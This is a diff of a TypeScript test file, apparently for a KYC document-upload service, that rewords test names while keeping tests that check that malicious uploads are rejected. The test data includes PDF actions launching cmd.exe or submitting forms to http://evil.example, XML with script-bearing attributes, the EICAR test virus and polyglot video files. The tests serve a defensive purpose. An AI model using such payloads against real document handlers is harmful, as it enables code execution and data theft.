@@ -12,7 +12,7 @@ beforeAll(async () => {
 
 const put = (documentType: number, bytes: Buffer) => deliver(id, documentType, bytes);
 
-/** Is it refused as a file, with nothing kept of it? */
+/** Whether it is rejected as a file, without a stored byte. */
 async function isRefused(documentType: number, bytes: Buffer): Promise<boolean> {
   const before = (await stored(id)).documents.length;
   const { statusCode } = await put(documentType, bytes);
@@ -23,7 +23,7 @@ const { mp4, webm, box, eicar, html, program, archive } = strange;
 const [head, ebml] = [mp4.subarray(0, 32), webm.subarray(0, 4)];
 const headOfWebm = Buffer.concat([ebml, Buffer.from('\x9fB\x86\x81\x01B\x82\x84webm', 'latin1')]);
 
-describe('M12 a video is looked into', () => {
+describe('M12 the content of a video is checked', () => {
   test.each<[string, Buffer]>([
     ['twelve bytes', mp4.subarray(0, 12)],
     ['the head alone', head],
@@ -50,14 +50,14 @@ describe('M12 a video is looked into', () => {
     ['a page behind a WebM', Buffer.concat([webm, html])],
     ['an archive behind a WebM', Buffer.concat([webm, archive()])],
     ['a cut WebM', webm.subarray(0, webm.length - 500)],
-  ])('%s is refused', async (_what, bytes) => {
+  ])('%s is rejected', async (_what, bytes) => {
     expect(await isRefused(DocumentType.IPV, bytes)).toBe(true);
   });
 
   test.each([
     ['MP4', mp4],
     ['WebM', webm],
-  ])('an honest %s is kept as it came', async (_what, bytes) => {
+  ])('a valid %s is stored unchanged', async (_what, bytes) => {
     const answer = await put(DocumentType.IPV, bytes);
     expect([answer.statusCode, answer.body]).toEqual([200, expect.anything()]);
     expect((await stored(id)).documents.at(-1)?.size_bytes).toBe(bytes.length);
@@ -66,7 +66,7 @@ describe('M12 a video is looked into', () => {
 
 const { pdfOf, pdfWithNote, pdfWithStream } = strange;
 
-describe('M12 a PDF acts by nothing, leads nowhere else and is nothing else', () => {
+describe('M12 a PDF has no actions, no external links and no second format', () => {
   test.each<[string, Buffer | (() => Promise<Buffer>)]>([
     ['a step into an attachment', pdfWithNote('/A<</S/GoToE/T<</R/C/N(a)>>>>')],
     [
@@ -138,7 +138,7 @@ describe('M12 a PDF acts by nothing, leads nowhere else and is nothing else', ()
     ['a script behind a form for data', pdfWithNote('/A<</S/SubmitForm/F(http://evil.example)>>')],
     ['a program to begin', pdfWithNote('/A<</S/Launch/F(cmd.exe)>>')],
     ['a form of XML', pdfWithNote('', '/AcroForm<</XFA(x)>>')],
-  ])('%s is refused', async (_what, made) => {
+  ])('%s is rejected', async (_what, made) => {
     const bytes = typeof made === 'function' ? await made() : made;
     expect(await isRefused(DocumentType.IncomeProof, bytes)).toBe(true);
   });
@@ -170,17 +170,17 @@ describe('M12 an Aadhaar XML is data', () => {
     ['an event', `${declared}<a onload="alert(1)"/>`],
     ['an address that is a script', `${declared}<a href="javascript:alert(1)"/>`],
     ['the test virus', `${declared}<a>${eicar.toString().replaceAll('&', '&amp;')}</a>`],
-  ])('%s is refused', async (_what, text) => {
+  ])('%s is rejected', async (_what, text) => {
     expect(await isRefused(DocumentType.AadhaarXml, Buffer.from(text))).toBe(true);
   });
 
-  test('one that is signed is kept', async () => {
+  test('a signed one is stored', async () => {
     const signed = `${declared}<OfflinePaperlessKyc referenceId="2346"><UidData><Poi name="A"/></UidData><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI=""/></SignedInfo></Signature></OfflinePaperlessKyc>`;
     expect((await put(DocumentType.AadhaarXml, Buffer.from(signed))).statusCode).toBe(200);
   });
 });
 
-test('M12 the test virus as a picture is refused as what it is', async () => {
+test('M12 the test virus in the form of a picture is rejected as a virus', async () => {
   const answer = await put(DocumentType.IncomeProof, Buffer.concat([Buffer.from('%PDF-1.4\n'), eicar]));
   expect([answer.statusCode, answer.json<{ Message: string }>().Message]).toEqual([
     422,
